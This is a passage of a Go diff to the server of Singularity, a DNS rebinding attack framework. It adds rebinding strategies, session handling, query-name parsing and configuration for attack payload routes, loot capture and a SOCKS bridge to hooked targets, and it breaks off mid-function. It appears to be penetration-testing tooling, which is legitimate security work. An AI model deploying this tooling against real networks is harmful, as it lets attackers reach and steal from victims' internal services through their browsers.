@@ -3,45 +3,207 @@ package singularity
 import (
 	"context"
 	crand "crypto/rand"
+	"crypto/tls"
 	"encoding/hex"
 	"encoding/json"
 	"errors"
 	"fmt"
+	"hash/fnv"
 	"html/template"
+	"io"
+	"io/fs"
 	"io/ioutil"
-	"log"
 	"math/rand"
 	"net"
 	"net/http"
-	"os"
+	"net/url"
 	"path/filepath"
+	"regexp"
+	"sort"
 	"strconv"
 	"strings"
 	"sync"
-	"syscall"
+	"sync/atomic"
 	"time"
 
 	"github.com/miekg/dns"
 	"github.com/nccgroup/singularity/golang"
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/h2c"
 )
 
 /*** General Stuff ***/
 
-//DNSRebindingStrategy maps a DNS Rebinding strategy name to a function
-var DNSRebindingStrategy = map[string]func(session string, dcss *DNSClientStateStore, q dns.Question) []string{
-	"rr": DNSRebindFromQueryRoundRobin,
-	"fs": DNSRebindFromQueryFirstThenSecond,
-	"rd": DNSRebindFromQueryRandom,
-	"ma": DNSRebindFromQueryMultiA,
+// DNSRebindingFunc is a DNS rebinding strategy.
+// It returns the hosts to respond with to a DNS query of a session.
+type DNSRebindingFunc func(session string, dcss *DNSClientStateStore, q dns.Question) []string
+
+// RebindingStrategy is a named DNS rebinding strategy.
+// Answer returns the hosts to respond with to a DNS query of a session.
+// Implementations must be safe for concurrent use
+// and read sessions under the RO mutex of dcss, update them under the RW mutex.
+type RebindingStrategy interface {
+	Name() string
+	Answer(session string, dcss *DNSClientStateStore, q dns.Question) []string
+}
+
+// funcRebindingStrategy adapts a DNSRebindingFunc to RebindingStrategy
+type funcRebindingStrategy struct {
+	name string
+	fn   DNSRebindingFunc
+}
+
+func (s *funcRebindingStrategy) Name() string { return s.name }
+func (s *funcRebindingStrategy) Answer(session string, dcss *DNSClientStateStore, q dns.Question) []string {
+	return s.fn(session, dcss, q)
+}
+
+// NewRebindingStrategy returns a RebindingStrategy named name answering with fn
+func NewRebindingStrategy(name string, fn DNSRebindingFunc) RebindingStrategy {
+	return &funcRebindingStrategy{name: name, fn: fn}
+}
+
+// rebindingStrategies maps a DNS rebinding strategy name to its strategy.
+// Use RegisterRebindingStrategy, LookupRebindingStrategy
+// and ListRebindingStrategies to access it safely.
+var rebindingStrategies = map[string]RebindingStrategy{}
+
+// rebindingStrategiesMutex guards rebindingStrategies
+var rebindingStrategiesMutex sync.RWMutex
+
+func init() {
+	for name, fn := range map[string]DNSRebindingFunc{
+		"rr":     DNSRebindFromQueryRoundRobin,
+		"fs":     DNSRebindFromQueryFirstThenSecond,
+		"rd":     DNSRebindFromQueryRandom,
+		"ma":     DNSRebindFromQueryMultiA,
+		"rm":     DNSRebindFromQueryRandomMultiA,
+		"manual": DNSRebindFromQueryManual,
+		"qc":     DNSRebindFromQueryCount,
+		"nu":     DNSRebindFromQueryNullAddress,
+	} {
+		if err := RegisterRebindingStrategy(NewRebindingStrategy(name, fn)); err != nil {
+			panic(err)
+		}
+	}
+}
+
+// RegisterRebindingStrategy adds a DNS rebinding strategy
+// that DNS queries can select by name, e.g. from an init function
+// of a package compiled into the server.
+// It returns an error if a strategy with the same name already exists.
+func RegisterRebindingStrategy(strategy RebindingStrategy) error {
+	if strategy == nil || strategy.Name() == "" {
+		return errors.New("rebinding strategy requires a name")
+	}
+	name := strategy.Name()
+	if strings.ContainsAny(name, "-.") {
+		return fmt.Errorf("rebinding strategy name %q cannot contain \"-\" or \".\"", name)
+	}
+
+	rebindingStrategiesMutex.Lock()
+	defer rebindingStrategiesMutex.Unlock()
+
+	if _, ok := rebindingStrategies[name]; ok {
+		return fmt.Errorf("rebinding strategy %q already registered", name)
+	}
+	rebindingStrategies[name] = strategy
+	return nil
+}
+
+// LookupRebindingStrategy returns the DNS rebinding strategy registered under name
+func LookupRebindingStrategy(name string) (RebindingStrategy, bool) {
+	rebindingStrategiesMutex.RLock()
+	strategy, ok := rebindingStrategies[name]
+	rebindingStrategiesMutex.RUnlock()
+	return strategy, ok
+}
+
+// ListRebindingStrategies returns the sorted names of all DNS rebinding strategies
+func ListRebindingStrategies() []string {
+	rebindingStrategiesMutex.RLock()
+	names := make([]string, 0, len(rebindingStrategies))
+	for name := range rebindingStrategies {
+		names = append(names, name)
+	}
+	rebindingStrategiesMutex.RUnlock()
+	sort.Strings(names)
+	return names
 }
 
 // DNSClientStateStore stores DNS sessions
 // It permits to respond to multiple clients
 // based on their current DNS rebinding state.
-// Must use RO or RW mutex to access.
+// Must use RO mutex to read and RW mutex to update sessions and their fields.
+// DNS queries of a session are serialized by a session lock.
 type DNSClientStateStore struct {
 	sync.RWMutex
-	Sessions map[string]*DNSClientState
+	Sessions     map[string]*DNSClientState
+	sessionLocks [sessionLockStripes]sync.Mutex
+}
+
+// sessionLockStripes is the number of session locks, shared by sessions with the same hash
+const sessionLockStripes = 256
+
+// sessionLock returns the lock serializing the DNS queries of session.
+// It must be acquired before the store mutex.
+func (dcss *DNSClientStateStore) sessionLock(session string) *sync.Mutex {
+	h := fnv.New32a()
+	h.Write([]byte(session))
+	return &dcss.sessionLocks[h.Sum32()%sessionLockStripes]
+}
+
+// rebindSession is the update path of the DNS queries of a session.
+// Under the session lock, it creates the session from newState
+// or updates the existing session with it, answers q with rebindingFn
+// and records the answers, the session being rebound if isRebound reports so.
+// The session is only locked by the RW mutex of the store while it is updated,
+// not while rebindingFn runs.
+func (dcss *DNSClientStateStore) rebindSession(session string, newState *DNSClientState, maxSessions int,
+	rebindingFn DNSRebindingFunc, q dns.Question, isRebound func([]string) bool) (answers []string, created bool, firstRebound bool) {
+	lock := dcss.sessionLock(session)
+	lock.Lock()
+	defer lock.Unlock()
+
+	dcss.Lock()
+	if state, ok := dcss.Sessions[session]; ok {
+		state.update(newState)
+	} else {
+		dcss.makeRoomForSession(maxSessions)
+		dcss.Sessions[session] = newState
+		created = true
+	}
+	dcss.Unlock()
+
+	answers = rebindingFn(session, dcss, q)
+
+	dcss.Lock()
+	if state := dcss.Sessions[session]; state != nil {
+		state.CurrentQueryTime = newState.CurrentQueryTime
+		state.LastQueryTime = newState.CurrentQueryTime
+		state.LastAnswers = answers
+		if isRebound(answers) && !state.Rebound {
+			state.Rebound = true
+			firstRebound = true
+		}
+	}
+	dcss.Unlock()
+	return answers, created, firstRebound
+}
+
+// update sets the parameters of a new query of a session.
+// LastQueryTime is kept so that the strategy sees the time elapsed since the previous query.
+func (cs *DNSClientState) update(query *DNSClientState) {
+	cs.CurrentQueryTime = query.CurrentQueryTime
+	cs.ResponseIPAddr = query.ResponseIPAddr
+	cs.ResponseReboundIPAddr = query.ResponseReboundIPAddr
+	cs.ResponseReboundIPAddrtimeOut = query.ResponseReboundIPAddrtimeOut
+	cs.RebindAfterQueries = query.RebindAfterQueries
+	cs.QueryCount++
+	cs.Strategy = query.Strategy
+	if query.ClientSubnet != "" {
+		cs.ClientSubnet = query.ClientSubnet
+	}
 }
 
 // AppConfig stores running parameter of singularity server.
@@ -49,13 +211,163 @@ type AppConfig struct {
 	HTTPServerPorts              []int
 	ResponseIPAddr               string
 	ResponseReboundIPAddr        string
-	RebindingFn                  func(session string, dcss *DNSClientStateStore, q dns.Question) []string
+	RebindingFn                  DNSRebindingFunc `json:"-"` // resolved from RebindingFnName
 	RebindingFnName              string
 	ResponseReboundIPAddrtimeOut int
 	AllowDynamicHTTPServers      bool
 	DNSServerBindAddr            string
+	DNSServerPort                int    // defaults to 53 when not set
+	MaxSessions                  int    // maximum number of DNS sessions, 0 for no limit
+	WebhookURL                   string // URL notified on the session events selected by WebhookEvents
+	HTMLDir                      string // serve assets from this directory instead of the binary, if set
+	UseEmbeddedAssets            bool   // Deprecated: ignored, the binary assets are served unless HTMLDir is set
+	PayloadCacheSeconds          int    // time payloads are cached, 0 until restart
 	WsHTTPProxyServerPort        int
 	EnableLinuxTProxySupport     bool
+	// Maximum number of dynamic HTTP server requests per client IP address
+	// per DynamicHTTPServersRateLimitInterval seconds. 0 disables rate limiting.
+	DynamicHTTPServersRateLimit         int
+	DynamicHTTPServersRateLimitInterval int
+	ProtectServersEndpoint              bool   // Deprecated: management endpoints require AuthToken unless DisableAdminAuth is set
+	DelayDOMLoadSeconds                 int    // time /delaydomload holds connections open
+	FirewallRuleDurationSeconds         int    // time before multiple A records firewall rules are removed
+	FirewallBackend                     string // "auto", "iptables", "nftables", "pf", "windows" or "ebpf"
+	FirewallDryRun                      bool   // log firewall rules instead of applying them
+	// DNS queries from these addresses or networks are not answered
+	IgnoreDNSRequestFrom     []net.IP
+	IgnoreDNSRequestFromCIDR []*net.IPNet
+	// HTTPS servers certificate and private key files in PEM format
+	HTTPSServerPorts []int
+	HTTPSCertFile    string
+	HTTPSKeyFile     string
+	// HTTPS servers certificates are obtained from Let's Encrypt and cached
+	// in this directory instead if set, see NewAutocertTLSConfig
+	ACMEAutocertCacheDir string
+	ACMEEmail            string
+	// Extra headers added to HTTP responses, overriding default headers
+	CustomResponseHeaders map[string]string
+	// DNS queries are only answered for these domains (e.g. "rebind.it") if set,
+	// including their NS and SOA records
+	AllowedDomains []string
+	// TProxy intercepted connections to these ports are relayed to their original destination
+	LinuxTProxyRelayPorts []int
+	// Random perturbation window (ms) of the first then second timeout
+	// and round robin rotation, 0 disables jitter
+	RebindJitterMs int
+	// HTTP requests are only served to clients from these networks if set
+	AllowHTTPClientsFrom []*net.IPNet
+	// Answer AAAA queries with IPv4-mapped IPv6 addresses (::ffff:a.b.c.d)
+	// so that targets resolving only AAAA records can be rebound to IPv4 hosts
+	MapV4ToV6 bool
+	// Route of the attack payload, "/soopayload.html" if not set
+	PayloadPath string
+	// Derives the DNS session state key of a query, name.Session if not set.
+	// HTTP requests are matched to their session with the address of the HTTP client.
+	SessionKeyFn func(name *DNSQuery, remote net.Addr) string `json:"-"`
+	// Maximum size in bytes of request bodies, e.g. of /servers requests, 5000 if not set
+	MaxRequestBodyBytes int
+	// Check DNS and HTTP reachability at startup, see SelfTest
+	SelfTest bool
+	// Answer DNS-over-HTTPS queries (RFC 8484) on /dns-query of HTTP(S) servers
+	EnableDNSOverHTTPS bool
+	// DNS-over-TLS (RFC 7858) server on DNSServerBindAddr, port 853 if DNSOverTLSPort is not set
+	EnableDNSOverTLS   bool
+	DNSOverTLSPort     int
+	DNSOverTLSCertFile string
+	DNSOverTLSKeyFile  string
+	// Refuse all queries for names without "s-" start tag (e.g. QNAME minimization queries).
+	// Otherwise those under AllowedDomains are answered with ResponseIPAddr and other names refused.
+	RefuseNonSingularityQueries bool
+	// HTTP servers on these ports keep connections alive, e.g. for the WebSocket proxy.
+	// Other servers drop connections to facilitate rebinding.
+	KeepAliveHTTPServerPorts []int
+	// DNS sessions are saved to this file at every expiry interval
+	// and restored at startup if set, a JSON document if it has the ".json"
+	// extension and a BoltDB database otherwise
+	SessionStoreFile string
+	// Log format ("text" or "json") and minimum level ("debug", "info", "warn" or "error")
+	LogFormat string
+	LogLevel  string
+	// ACME HTTP-01 and DNS-01 challenges written by an external ACME client
+	// are answered from this directory if set (see acme.go)
+	ACMEChallengeDir string
+	// Multiple A records firewall rules match the browser source ports
+	// from its connection port to port+FirewallSourcePortRange, all ports if 0
+	FirewallSourcePortRange int
+	// Session events notified to WebhookURL: "session", "rebinding", "firewall"
+	// and "callback", all if empty
+	WebhookEvents []string
+	// Data captured by payloads is persisted in this directory if set,
+	// or in this BoltDB database, which may be SessionStoreFile
+	LootDir       string
+	LootStoreFile string
+	// Address of the SOCKS5 bridge to hooked targets, e.g. "127.0.0.1:1080", disabled if empty
+	SOCKSBridgeAddr string
+	// Management endpoints are served only to these networks if set
+	AdminAllowedFrom []*net.IPNet
+	// Address of a dedicated server for management endpoints and the manager interface,
+	// e.g. "127.0.0.1:8090". Attack servers serve management endpoints if empty.
+	AdminAddr string
+	// Address of the gRPC control API server, e.g. "127.0.0.1:8091", disabled if empty
+	GRPCAddr string
+	// Maximum number of dynamic HTTP servers running at once, 1 if not set.
+	// The oldest dynamic server is stopped when a new one is requested on a full pool,
+	// unless it is owned by another DNS session.
+	DynamicHTTPServersPoolSize int
+	// Dynamic HTTP servers may only listen on these ports if set.
+	// Servers requested without a port get the first free one.
+	DynamicHTTPServerPorts []int
+	// Maximum number of dynamic HTTP servers owned by a DNS session, 0 for no limit
+	DynamicHTTPServersPerSession int
+	// Serve HTTP/2 on attack servers: h2 on HTTPS servers, h2c on HTTP servers.
+	EnableHTTP2 bool
+	// Serve HTTP/3 (QUIC) on the UDP ports of HTTPS attack servers, advertised with Alt-Svc headers.
+	// Not served by servers redirected with EnableLinuxTProxySupport.
+	EnableHTTP3 bool
+	// DNS queries and answers are audited to this file (JSON lines) if set,
+	// rotated beyond DNSAuditLogMaxSizeMB (100 by default) keeping DNSAuditLogMaxBackups files
+	DNSAuditLogFile       string
+	DNSAuditLogMaxSizeMB  int
+	DNSAuditLogMaxBackups int
+	DNSAuditLog           *DNSAuditLog `json:"-"` // opened from DNSAuditLogFile
+	// Name servers of AllowedDomains in NS and SOA records, "ns.<domain>" if not set
+	NameServers []string
+	// TXT records defined by operators with the /api/dns/txt API, if set
+	TXTRecords *TXTRecordStore `json:"-"`
+	// Fixed answers for names under the attacker domain, e.g. of a landing page,
+	// and a file of more answers read with ReadStaticZoneFile
+	StaticRecords     []StaticDNSRecord
+	StaticZoneFile    string
+	staticZoneRecords []StaticDNSRecord
+	// Maximum number of DNS queries a client IP address can make
+	// per DNSRateLimitInterval seconds. 0 disables rate limiting.
+	DNSRateLimit         int
+	DNSRateLimitInterval int
+	DNSRateLimiter       *RateLimiter `json:"-"` // created from DNSRateLimit
+	// External ports (e.g. "1-65535") redirected with TProxy to the first HTTP server port,
+	// except LinuxTProxyExcludePorts, with rules installed at startup and removed at shutdown
+	LinuxTProxyPortRange    string
+	LinuxTProxyExcludePorts []int
+	LinuxTProxyRulesDryRun  bool // log TProxy rules instead of installing them
+	// Operators sharing the instance with their own token, isolated from each other, if set
+	Operators []Operator
+	// Serve the management endpoints without AuthToken, e.g. behind an authenticating reverse proxy.
+	// Ignored with operators.
+	DisableAdminAuth bool
+	// Maximum size in MB of all loot and of the loot of a DNS session, 0 for no limit.
+	// Loot beyond is rejected.
+	LootMaxSizeMB        int
+	LootMaxSessionSizeMB int
+}
+
+const defaultPayloadPath = "/soopayload.html"
+
+// payloadPath returns the route of the attack payload
+func (appConfig *AppConfig) payloadPath() string {
+	if appConfig.PayloadPath == "" {
+		return defaultPayloadPath
+	}
+	return appConfig.PayloadPath
 }
 
 // GenerateRandomString returns a secure random hexstring, 20 chars long
@@ -69,6 +381,18 @@ func GenerateRandomString() (string, error) {
 	return hex.EncodeToString(b), nil
 }
 
+// GenerateNonceDNSName prefixes a Singularity DNS name with a random label
+// e.g. "<nonce>.s-1.2.3.4-127.0.0.1-123-fs-e.rebind.it"
+// so that each query uses a unique name and defeats resolver caching.
+// NewDNSQuery ignores the nonce label.
+func GenerateNonceDNSName(name string) (string, error) {
+	nonce, err := GenerateRandomString()
+	if err != nil {
+		return "", err
+	}
+	return nonce + "." + name, nil
+}
+
 /*** DNS Stuff ***/
 
 // DNSClientState holds the current rebinding state of client.
@@ -81,12 +405,47 @@ type DNSClientState struct {
 	LastResponseReboundIPAddr    int
 	ResponseReboundIPAddrtimeOut int
 	FirewalledOnce               bool
+	Rebound                      bool   // rebound host was served at least once
+	ClientSubnet                 string // EDNS Client Subnet forwarded by the resolver, if any
+	RebindJitterMs               int    // random perturbation window of rebinding timing
+	RebindArmed                  bool   // set by POST /rebind for the manual strategy
+	// Hosts served by the last A or AAAA response
+	LastAnswers []string
+	// A and AAAA queries received in this session and threshold of the query count strategy
+	QueryCount         int
+	RebindAfterQueries int
+	// Name of the DNS rebinding strategy of the last query
+	Strategy string
+}
+
+// jitterRand perturbs rebinding timing, guarded by jitterRandMutex
+var jitterRand = rand.New(rand.NewSource(time.Now().UnixNano()))
+var jitterRandMutex sync.Mutex
+
+// SeedRebindJitter seeds the random number generator used for rebinding jitter
+// e.g. to get deterministic jitter in tests.
+func SeedRebindJitter(seed int64) {
+	jitterRandMutex.Lock()
+	jitterRand = rand.New(rand.NewSource(seed))
+	jitterRandMutex.Unlock()
+}
+
+// rebindJitter returns a random duration between -jitterMs and jitterMs milliseconds
+func rebindJitter(jitterMs int) time.Duration {
+	if jitterMs <= 0 {
+		return 0
+	}
+	jitterRandMutex.Lock()
+	jitter := jitterRand.Intn(2*jitterMs+1) - jitterMs
+	jitterRandMutex.Unlock()
+	return time.Duration(jitter) * time.Millisecond
 }
 
 // ExpireOldEntries expire DNS Client Sessions
 // that existed longer than duration
 // Old entries are expire at a provided interval
 // Someone could possibly fill memory before old entries are expired
+// unless AppConfig.MaxSessions is set, see makeRoomForSession.
 func (dcss *DNSClientStateStore) ExpireOldEntries(duration time.Duration) {
 	dcss.Lock()
 	for sk, sv := range dcss.Sessions {
@@ -98,6 +457,65 @@ func (dcss *DNSClientStateStore) ExpireOldEntries(duration time.Duration) {
 	dcss.Unlock()
 }
 
+// lastActivity returns when a client last queried us,
+// or first queried us if no answer was completed yet.
+func (cs *DNSClientState) lastActivity() time.Time {
+	if cs.LastQueryTime.IsZero() {
+		return cs.FirstQueryTime
+	}
+	return cs.LastQueryTime
+}
+
+// sessionStatus returns a compact description of the rebinding state of a session
+// e.g. "serving=127.0.0.1 rebound=true", and false if there is no such session.
+// Must hold dcss mutex.
+func (dcss *DNSClientStateStore) sessionStatus(session string) (string, bool) {
+	state := dcss.Sessions[session]
+	if state == nil {
+		return "", false
+	}
+	serving := strings.Join(state.LastAnswers, ",")
+	if serving == "" {
+		serving = "none"
+	}
+	return fmt.Sprintf("serving=%v rebound=%v", serving, state.Rebound), true
+}
+
+// sessionEvictionSamples is the number of sessions
+// among which makeRoomForSession evicts the least recently active one
+const sessionEvictionSamples = 16
+
+// makeRoomForSession evicts the least recently active sessions
+// so that a new session can be added without exceeding maxSessions.
+// To evict in constant time when the store is flooded, the least recently active
+// session of sessionEvictionSamples random sessions is evicted (approximated LRU).
+// maxSessions of zero or less means no limit.
+// Must hold dcss mutex.
+func (dcss *DNSClientStateStore) makeRoomForSession(maxSessions int) {
+	if maxSessions <= 0 {
+		return
+	}
+	for len(dcss.Sessions) >= maxSessions {
+		var oldestKey string
+		var oldest *DNSClientState
+		samples := 0
+		// map iteration starts at a random entry
+		for sk, sv := range dcss.Sessions {
+			if oldest == nil || sv.lastActivity().Before(oldest.lastActivity()) {
+				oldestKey = sk
+				oldest = sv
+			}
+			samples++
+			if samples >= sessionEvictionSamples {
+				break
+			}
+		}
+		logEvent(LogWarn, "DNS", LogFields{"session": oldestKey}, "too many sessions, evicting session: %v", oldestKey)
+		delete(dcss.Sessions, oldestKey)
+		atomic.AddUint64(&metrics.sessionsEvicted, 1)
+	}
+}
+
 // DNSQuery is a convenience structure to hold
 // the parsed DNS query of a client.
 type DNSQuery struct {
@@ -106,6 +524,169 @@ type DNSQuery struct {
 	Session               string
 	DNSRebindingStrategy  string
 	Domain                string
+	// Optional per-session rebinding timeout (seconds), 0 if not set
+	ResponseReboundIPAddrtimeOut int
+	// Optional per-session query count threshold of the "qc" strategy, 0 if not set
+	RebindAfterQueries int
+	// Optional TTL (seconds) of the answers, 0 if not set
+	TTL int
+	// Optional port of the target service, e.g. mapped to the attack port with TProxy,
+	// 0 if not set, in which case the target listens on the port of the attack origin.
+	TargetPort int
+}
+
+// dnsQueryOptionRegexp matches optional DNS query elements
+// following the rebinding strategy, e.g. "t10".
+var dnsQueryOptionRegexp = regexp.MustCompile(`^([a-z]+)([0-9]+)$`)
+
+// maxDNSQueryTTL is the largest TTL a DNS query may set (RFC 2181)
+const maxDNSQueryTTL = 1<<31 - 1
+
+// parseOption parses an optional element of a DNS query
+// e.g. "t10" sets the rebinding timeout to 10 seconds,
+// "q3" rebinds after 3 queries with the "qc" strategy,
+// "ttl30" answers with a TTL of 30 seconds
+// and "p8080" targets a service listening on port 8080.
+func (name *DNSQuery) parseOption(option string) error {
+	match := dnsQueryOptionRegexp.FindStringSubmatch(option)
+	if match == nil {
+		return fmt.Errorf("cannot parse option %q in DNS query", option)
+	}
+
+	value, err := strconv.Atoi(match[2])
+	if err != nil {
+		return fmt.Errorf("cannot parse option %q in DNS query", option)
+	}
+
+	switch match[1] {
+	case "t":
+		if value <= 0 {
+			return errors.New("cannot parse rebinding timeout in DNS query")
+		}
+		name.ResponseReboundIPAddrtimeOut = value
+	case "q":
+		if value <= 0 {
+			return errors.New("cannot parse rebinding query count in DNS query")
+		}
+		name.RebindAfterQueries = value
+	case "ttl":
+		if value <= 0 || value > maxDNSQueryTTL {
+			return errors.New("cannot parse TTL in DNS query")
+		}
+		name.TTL = value
+	case "p":
+		if !validPort(value) {
+			return errors.New("cannot parse target port in DNS query")
+		}
+		name.TargetPort = value
+	default:
+		return fmt.Errorf("unknown option %q in DNS query", option)
+	}
+	return nil
+}
+
+// startTagIndex returns the position of the "s-" start tag in a DNS query.
+// The start tag must begin a label so that leading labels
+// such as random nonces are skipped. It returns -1 if not found.
+func startTagIndex(qname string) int {
+	for i := 0; i+1 < len(qname); i++ {
+		if qname[i] == 's' && qname[i+1] == '-' && (i == 0 || qname[i-1] == '.') {
+			return i
+		}
+	}
+	return -1
+}
+
+// Encode returns the DNS query name of a DNSQuery, the inverse of NewDNSQuery,
+// e.g. "s-1.2.3.4-my--host.example.com-123-fs-e.rebind.it."
+func (name *DNSQuery) Encode() string {
+	elements := []string{encodeHostElement(name.ResponseIPAddr), encodeHostElement(name.ResponseReboundIPAddr),
+		name.Session, name.DNSRebindingStrategy}
+	if name.ResponseReboundIPAddrtimeOut > 0 {
+		elements = append(elements, fmt.Sprintf("t%v", name.ResponseReboundIPAddrtimeOut))
+	}
+	if name.RebindAfterQueries > 0 {
+		elements = append(elements, fmt.Sprintf("q%v", name.RebindAfterQueries))
+	}
+	if name.TTL > 0 {
+		elements = append(elements, fmt.Sprintf("ttl%v", name.TTL))
+	}
+	if name.TargetPort > 0 {
+		elements = append(elements, fmt.Sprintf("p%v", name.TargetPort))
+	}
+	for i := range elements {
+		elements[i] = escapeQueryElement(elements[i])
+	}
+	return "s-" + strings.Join(elements, queryElementSeparator) + "-e" + name.Domain
+}
+
+// DNS query names encode their elements as "s-<element>-...-<element>-e.<domain>".
+// A single "-" separates elements and a literal "-" within an element
+// is escaped as "--", e.g. the CNAME "my-host.xn--p1ai" is encoded as "my--host.xn----p1ai".
+// All other characters, including "_", are literal.
+// The end tag is the first separator followed by "e." once the four mandatory elements
+// are read, so that CNAMEs such as "e.example.com" are not mistaken for it.
+const queryElementSeparator = "-"
+
+// ipv6QueryElementSeparator replaces the ":" of IPv6 addresses in DNS query names,
+// which host names cannot contain, e.g. "fd00::1" is encoded as "fd00xx1".
+// It is not a hexadecimal digit so IPv4 addresses and host names are kept as is,
+// unless a single label host name is also an encoded IPv6 address, e.g. "abxx1".
+const ipv6QueryElementSeparator = "x"
+
+// encodeHostElement encodes a host of a DNS query name, see ipv6QueryElementSeparator
+func encodeHostElement(host string) string {
+	if net.ParseIP(host) == nil || !strings.Contains(host, ":") {
+		return host
+	}
+	return strings.Replace(host, ":", ipv6QueryElementSeparator, -1)
+}
+
+// decodeHostElement decodes a host of a DNS query name, the inverse of encodeHostElement.
+// Resolvers may randomize the case of query names so "X" is also decoded.
+func decodeHostElement(element string) string {
+	if !strings.Contains(strings.ToLower(element), ipv6QueryElementSeparator) {
+		return element
+	}
+	host := strings.Replace(strings.ToLower(element), ipv6QueryElementSeparator, ":", -1)
+	if net.ParseIP(host) == nil {
+		return element
+	}
+	return host
+}
+
+// escapeQueryElement escapes an element of a DNS query name
+func escapeQueryElement(element string) string {
+	return strings.Replace(element, queryElementSeparator, queryElementSeparator+queryElementSeparator, -1)
+}
+
+// splitQueryElements decodes the elements following the start tag of a DNS query name
+// and returns them with the domain following the end tag.
+func splitQueryElements(s string) ([]string, string, error) {
+	elements := []string{}
+	var element strings.Builder
+
+	for i := 0; i < len(s); i++ {
+		if s[i] != '-' {
+			element.WriteByte(s[i])
+			continue
+		}
+		if i+1 < len(s) && s[i+1] == '-' { // escaped "-"
+			element.WriteByte('-')
+			i++
+			continue
+		}
+		elements = append(elements, element.String())
+		element.Reset()
+		if len(elements) >= 4 && strings.HasPrefix(s[i+1:], "e.") {
+			return elements, s[i+len("-e."):], nil
+		}
+	}
+
+	if len(elements) < 4 && strings.Contains(s, "-e.") {
+		return elements, "", errors.New("cannot parse DNS query")
+	}
+	return elements, "", errors.New("cannot find end tag in DNS query")
 }
 
 // NewDNSQuery parses DNS query string
@@ -114,36 +695,39 @@ type DNSQuery struct {
 // if target contains a CNAME instead of an IP address
 // and if CNAME includes any "-",
 // then each of these "-" must be escaped with another "-"
+// (see escapeQueryElement and DNSQuery.Encode).
+// Any label preceding the "s-" start tag (e.g. a nonce) is ignored.
+// Options may follow the rebinding strategy,
+// e.g. "s-1.2.3.4-127.0.0.1-123-fs-t10-e.rebind.it" sets a 10 seconds rebinding timeout
+// and "s-1.2.3.4-127.0.0.1-123-fs-ttl30-e.rebind.it" answers with a TTL of 30 seconds.
+// IPv6 hosts are encoded with encodeHostElement,
+// e.g. "s-1.2.3.4-fd00xx1-123-fs-e.rebind.it" rebinds to "fd00::1".
 func NewDNSQuery(qname string) (*DNSQuery, error) {
 	name := new(DNSQuery)
 
-	qname = strings.Replace(qname, "--", "_", -1)
-
-	split := strings.Split(qname, "-e.")
-
-	if len(split) == 1 {
-		return name, errors.New("cannot find end tag in DNS query")
-	}
-
-	head := split[0]
-
-	tail := strings.Split(head, "s-")
+	start := startTagIndex(qname)
 
-	if len(tail) == 1 {
+	if start == -1 {
+		if !strings.Contains(qname, "-e.") {
+			return name, errors.New("cannot find end tag in DNS query")
+		}
 		return name, errors.New("cannot find start tag in DNS query")
 	}
 
-	elements := strings.Split(tail[1], "-")
-
-	domainSuffix := split[1]
+	elements, domainSuffix, err := splitQueryElements(qname[start+len("s-"):])
+	if err != nil {
+		return name, err
+	}
 
-	if (len(domainSuffix) < 3) && (strings.ContainsAny(domainSuffix, ".") == false) {
+	// The domain must have at least two labels (e.g. "rebind.it"),
+	// fully qualified query names end with a dot.
+	domain := strings.TrimSuffix(domainSuffix, ".")
+	if len(domain) < 3 || !strings.Contains(domain, ".") || !golang.IsDomainName(domain) {
 		return name, errors.New("cannot parse domain in DNS query")
 	}
 
-	if len(elements) != 4 {
-		return name, errors.New("cannot parse DNS query")
-	}
+	elements[0] = decodeHostElement(elements[0])
+	elements[1] = decodeHostElement(elements[1])
 
 	if net.ParseIP(elements[0]) == nil {
 		return name, errors.New("cannot parse IP address of first host in DNS query")
@@ -153,7 +737,6 @@ func NewDNSQuery(qname string) (*DNSQuery, error) {
 
 	if elements[1] != "localhost" {
 
-		elements[1] = strings.Replace(elements[1], "_", "-", -1)
 		if net.ParseIP(elements[1]) == nil && golang.IsDomainName(elements[1]) == false {
 			return name, errors.New("cannot parse IP address or CNAME of second host in DNS query")
 		}
@@ -170,18 +753,54 @@ func NewDNSQuery(qname string) (*DNSQuery, error) {
 
 	name.DNSRebindingStrategy = elements[3]
 
+	for _, option := range elements[4:] {
+		if err := name.parseOption(option); err != nil {
+			return name, err
+		}
+	}
+
 	name.Domain = fmt.Sprintf(".%v", domainSuffix)
 
 	return name, nil
 }
 
+// NewDNSQueryFromHost parses the host of an HTTP request
+// e.g. "s-1.2.3.4-127.0.0.1-123-fs-e.rebind.it:8080"
+// and returns a DNSQuery structure.
+func NewDNSQueryFromHost(host string) (*DNSQuery, error) {
+	if hostname, _, err := net.SplitHostPort(host); err == nil {
+		host = hostname
+	}
+	return NewDNSQuery(host)
+}
+
+// NewDNSQueryFromOrigin parses the host of an HTTP Origin header
+// e.g. "http://s-1.2.3.4-127.0.0.1-123-fs-e.rebind.it:8080"
+// and returns a DNSQuery structure.
+// The scheme must be http or https, origins without scheme are parsed as hosts.
+func NewDNSQueryFromOrigin(origin string) (*DNSQuery, error) {
+	if !strings.Contains(origin, "://") {
+		return NewDNSQueryFromHost(origin)
+	}
+	u, err := url.Parse(origin)
+	if err != nil {
+		return new(DNSQuery), err
+	}
+	if u.Scheme != "http" && u.Scheme != "https" {
+		return new(DNSQuery), fmt.Errorf("unsupported origin scheme %q", u.Scheme)
+	}
+	return NewDNSQuery(u.Hostname())
+}
+
 // dnsRebindFirst is a convenience function
 // that always returns the first host in DNS query
 func dnsRebindFirst(session string, dcss *DNSClientStateStore, q dns.Question) []string {
 	dcss.RLock()
-	answers := []string{dcss.Sessions[session].ResponseIPAddr}
-	dcss.RUnlock()
-	return answers
+	defer dcss.RUnlock()
+	if dcss.Sessions[session] == nil {
+		return []string{}
+	}
+	return []string{dcss.Sessions[session].ResponseIPAddr}
 }
 
 // DNSRebindFromQueryFirstThenSecond is a response handler to DNS queries
@@ -190,13 +809,18 @@ func dnsRebindFirst(session string, dcss *DNSClientStateStore, q dns.Question) [
 // then the second host in all subsequent queries for a period of time timeout.
 func DNSRebindFromQueryFirstThenSecond(session string, dcss *DNSClientStateStore, q dns.Question) []string {
 	dcss.RLock()
+	if dcss.Sessions[session] == nil {
+		dcss.RUnlock()
+		return []string{}
+	}
 	answers := []string{dcss.Sessions[session].ResponseIPAddr}
 	elapsed := dcss.Sessions[session].CurrentQueryTime.Sub(dcss.Sessions[session].LastQueryTime)
 	timeOut := dcss.Sessions[session].ResponseReboundIPAddrtimeOut
+	jitter := rebindJitter(dcss.Sessions[session].RebindJitterMs)
 
-	log.Printf("DNS: in DNSRebindFromQueryFirstThenSecond\n")
+	logEvent(LogDebug, "DNS", LogFields{"session": session}, "in DNSRebindFromQueryFirstThenSecond")
 
-	if elapsed < (time.Second * time.Duration(timeOut)) {
